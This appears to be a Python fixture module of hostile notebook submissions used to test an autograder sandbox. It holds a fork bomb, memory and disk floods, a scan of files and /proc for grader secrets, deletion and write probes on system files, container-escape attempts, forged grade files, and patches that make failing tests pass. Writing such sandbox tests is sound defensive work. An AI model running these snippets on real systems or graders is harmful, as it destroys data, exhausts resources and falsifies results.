"""Submissions that no grader wants. Each is bounded: where a wall leaks, a test fails, and that is all.

Each entry of `SAMPLES`: what the file holds, the status that the grader must give, and words of a flag.
Words in braces are filled in by the test: {port} of a listener, {victim} a folder outside, {secret} the one
of the homework's source, {neighbours} the folder of all submissions, {root} the course.
"""

import json

import IPython
import nbformat
from homework_samples import ANSWERS, NAME, small_homework, submission

LOOP = "import time\nend = time.time() + 60\nwhile time.time() < end: pass"
FORKS = """
import os, time
for _ in range(300):
    if os.fork() == 0:
        time.sleep(3600)
        os._exit(0)
"""
ARRAY = "parts = []\nfor _ in range(64):\n    parts.append(np.ones(2**23))"  # 64 times 64 MB
MANY_ARRAYS = """
import os, time
for _ in range(5):
    if os.fork() == 0:
        part = np.ones(50 * 2**20)  # 400 MB each
        time.sleep(3600)
        os._exit(0)
time.sleep(3600)
"""
FILE = "with open('big.bin', 'wb') as f:\n    for _ in range(128):\n        f.write(bytes(2**24))"  # 2 GB
FILES = """
for number in range(20):  # 20 times 60 MB
    with open(f'part{number}.bin', 'wb') as f:
        f.write(bytes(60 * 2**20))
"""
EXIT = "import os\nos._exit(0)"
CRASH = "import ctypes\nctypes.string_at(0)"
CONNECT = """
import socket
with socket.create_connection(("127.0.0.1", {port}), timeout=3) as wire:
    wire.sendall(b"answers")
"""
HIDDEN = """
import os, glob
word, seen = "large_" + "scores", []
folders = ["{secret}", "{root}/notebooks", "{root}/tests", ".", "/tmp", os.path.expanduser("~")]
for folder in folders:
    for top, inside, names in os.walk(folder):
        inside[:] = set(inside) - {"lib", "lib64", "bin", "share", "helpers", "data"}
        for name in names:
            try:
                with open(os.path.join(top, name), errors="ignore") as f:
                    if word in f.read(10**6): seen.append(name)
            except OSError:
                pass
for pid in filter(str.isdigit, os.listdir("/proc")):
    for what in ("cmdline", "environ"):
        try:
            with open("/proc/" + pid + "/" + what, errors="ignore") as f:
                if word in f.read(): seen.append(what)
        except OSError:
            pass
seen += [line for line in In if word in line and "seen" not in line]
print("HIDDEN", seen)
"""
NEIGHBOUR = """
import os
print("NEIGHBOUR", [os.path.exists(p) for p in ("{neighbours}", "{victim}", "{secret}")], os.getppid())
open("{neighbours}/ada.ipynb").read()
"""
DELETE = """
import os, shutil
shutil.rmtree("{victim}", ignore_errors=True)
for path in ("{root}/helpers/__init__.py", "/usr/bin/env", "/etc/passwd"):
    try:
        os.close(os.open(path, os.O_WRONLY))  # opened, not changed
        print("WRIT" + "ABLE", path)
    except OSError:
        pass
os.remove("{victim}/keep.txt")
"""
ESCAPE = """
import ctypes, os, socket, stat
libc, found = ctypes.CDLL(None), []

def tried(name, act):
    child = os.fork()
    if child == 0:
        try:
            os._exit(0 if act() in (0, None) else 1)
        except OSError:
            os._exit(1)
    if os.waitpid(child, 0)[1] == 0: found.append(name)

for name, flag in {"user": 0x10000000, "mount": 0x20000, "net": 0x40000000}.items():
    tried(name + " namespace", lambda: libc.unshare(flag))
tried("mount", lambda: libc.mount(b"x", b"/tmp", b"tmpfs", 0, None))
tried("disk", lambda: os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(8, 0)))
tried("chroot", lambda: os.chroot("/tmp"))
tried("kernel", lambda: os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY)))
tried("sysctl", lambda: os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)))
tried("host name", lambda: socket.sethostname("mallory"))
found += [name for _, name in socket.if_nameindex() if name != "lo"]
found += [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]
print("ESCAPED", found)
"""
SHELL = "!echo he''llo && tty", "%%bash\necho from ba''sh"
FORGE_FILES = """
import os
for folder in (".", "{victim}", "/tmp", "{neighbours}"):
    try:
        os.makedirs(folder + "/records", exist_ok=True)
        with open(folder + "/grades.csv", "w") as f: f.write("student,points\\nmallory,99\\n")
    except OSError:
        pass
"""
STAY = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(60):
            time.sleep(0.5)
            try: open("{victim}/still-here.txt", "a").write("x")
            except OSError: pass
    os._exit(0)
"""
FLOOD = "for _ in range(60):\n    print('flood' * 200_000)"
PATCH_NUMPY = "np.testing.assert_allclose = lambda *a, **k: None"
PATCH_SHELL = """
shell = get_ipython()
shell.showtraceback = lambda *a, **k: None
honest = shell.run_cell_async
async def run_cell_async(*a, **k):
    result = await honest(*a, **k)
    result.error_in_exec = result.error_before_exec = None
    return result
shell.run_cell_async = run_cell_async
"""
# With IPython 7, which Colab has, and 8, the last for Python 3.10, a shell patched like this answers no more.
PATCHED_SHELL = ("ok", "forged results") if IPython.version_info[0] > 8 else ("timeout", None)
SHADOW_NUMPY = """
class np:
    class testing:
        assert_allclose = staticmethod(lambda *a, **k: None)
    array = zeros = staticmethod(lambda *a, **k: None)
"""
INNOCENT = """
sum = 0
max = 3
all = [1]
len = round = None
dict = tuple = open = enumerate = getattr = compile = vars = Exception = {}
%pdb on
get_ipython().set_custom_exc((AssertionError,), lambda *a, **k: print("oh no"))
from rich import pretty, traceback
pretty.install()
traceback.install()
"""
SNOOP = """
seen = []
get_ipython().events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))
"""
TELL = "print('SNOOPED', '\\n'.join(seen))"
SYNTAX = "def relu(z:\n    return z"

# What a browser would draw, in cells of honest work.
WIDGETS = """
import ipywidgets
from tqdm.notebook import tqdm
with ipywidgets.Output() as box:
    print("in a " + "box")
ipywidgets.interact(lambda x: print("seen", x), x=3)
for _ in tqdm(range(3)):
    pass
"""
HANDLES = """
from IPython.display import clear_output, update_display
print("not " + "seen")
handle = display("one", display_id="kept")
clear_output()
handle.update("two")
display({"image/png": 5, "text/html": None, "text/x-odd": {}}, raw=True, metadata={"image/png": 5})
"""
LATER = """
from ipykernel.comm import Comm
handle.update("three")
update_display("four", display_id="nowhere")
Comm(target_name="jupyter.widget", data={"state": {}}).send({"state": {"msg_id": ""}})
input("your name? ")
"""

WRONG = {**ANSWERS, "q1-softmax": "def softmax(s):\n    return s", "q2-relu": "def relu(z):\n    return z"}


def easy_tests():
    """Tests made easy, and switched off by a tag."""
    notebook = submission(WRONG)
    for cell in notebook.cells:
        if cell["id"] == "q1-test":
            cell.source = "assert True"
        if cell["id"] == "q2-test":
            cell.metadata["tags"] = ["skip-execution"]
            cell.metadata.nbgrader.points = 100
    return notebook


def other_homework():
    text = json.dumps(small_homework().released).replace("q1-", "task-a-").replace("q2-", "task-b-")
    notebook = nbformat.from_dict(json.loads(text.replace('"imports"', '"setup"').replace("report", "essay")))
    notebook.metadata.course.homework = "hw8_other"
    return notebook


def text_of(notebook):
    return nbformat.writes(notebook)


def code(*extra, answers=ANSWERS):
    return text_of(submission(answers, extra=extra))


def snooper():
    notebook = submission(WRONG)
    notebook.cells.insert(1, nbformat.v4.new_code_cell(SNOOP))
    notebook.cells.append(nbformat.v4.new_code_cell(TELL))
    return text_of(notebook)


def merged():
    """Both answers in the first cell, the report in two, a picture in it, half an emoji and odd metadata."""
    notebook = submission({"q1-softmax": ANSWERS["q1-softmax"] + "\n\n" + ANSWERS["q2-relu"]})
    content = json.loads(nbformat.writes(notebook))
    content["metadata"] = {"course": "CS101", "kernelspec": [1], "tags": None, "widgets": 5}
    first, second = ANSWERS["report"].split("\n\n")
    content["cells"][-1]["source"] = [first + "\n\n", "![](attachment:image.png) ![](attachment:lost.png)"]
    content["cells"][-1]["attachments"] = {"image.png": {"image/png": ["iVBOR", "w0KGgo="]}, "odd": [3]}
    content["cells"].append(
        {"cell_type": "markdown", "source": second + " \ud83d", "metadata": [], "id": ["x"]}
    )
    content["cells"].append({"cell_type": "raw", "source": [], "metadata": {"id": {}, "nbgrader": "yes"}})
    content["cells"].append(
        {"cell_type": "code", "source": "# \ud83d\n1", "metadata": {"tags": 7}, "outputs": 3}
    )
    return json.dumps(content)


# These run code that a leaking wall would let out; the table below them is only odd.
DANGEROUS = {
    "loop": (code(LOOP), "timeout", None),
    "forks": (code(FORKS), "process limit", None),
    "array": (code(ARRAY), "memory", None),
    "arrays": (code(MANY_ARRAYS), "memory", None),
    "file": (code(FILE), "file limit", None),
    "files": (code(FILES), "file limit", None),
    "connect": (code(CONNECT), "error", None),
    "hidden": (code(HIDDEN), "ok", None),
    "neighbour": (code(NEIGHBOUR), "error", None),
    "delete": (code(DELETE), "error", None),
    "escape": (code(ESCAPE), "ok", None),
    "forge-files": (code(FORGE_FILES), "ok", None),
    "stay": (code(STAY), "ok", None),
}
ODD = {
    "shell": (code(*SHELL), "ok", None),
    "exit": (code(EXIT), "killed kernel", None),
    "crash": (code(CRASH), "killed kernel", None),
    "flood": (code(FLOOD), "ok", None),
    "patch-numpy": (code(PATCH_NUMPY, answers=WRONG), "ok", "forged results"),
    "patch-shell": (code(PATCH_SHELL, answers=WRONG), *PATCHED_SHELL),
    "shadow-numpy": (code(SHADOW_NUMPY, answers=WRONG), "ok", None),
    "innocent": (code(INNOCENT), "ok", None),
    "widgets": (code(WIDGETS, HANDLES, LATER), "error", None),
    "merged": (merged(), "ok", None),
    "snooper": (snooper(), "ok", None),
    "syntax": (code(answers={**ANSWERS, "q2-relu": SYNTAX}), "syntax error", None),
    "easy-tests": (text_of(easy_tests()), "ok", "tampered tests: q1-test"),
    "malformed": (text_of(submission())[:-300], "malformed notebook", None),
    "list": ("[1, 2, 3]", "malformed notebook", None),
    "deep": ("[" * 100_000, "malformed notebook", None),
    "other": (text_of(other_homework()), "wrong homework", None),
    "nothing": ("", "empty", None),
    "untouched": (text_of(small_homework().released), "empty", None),
}
SAMPLES = {**DANGEROUS, **ODD}


def write(folder, samples, **names):
    """Write samples as files; `names` fill the braces in their code."""
    for student, (text, _, _) in samples.items():
        for name, value in names.items():
            text = text.replace("{" + name + "}", str(value))
        (folder / f"{student}.ipynb").write_text(text, encoding="utf-8")


__all__ = ["DANGEROUS", "NAME", "ODD", "SAMPLES", "write"]
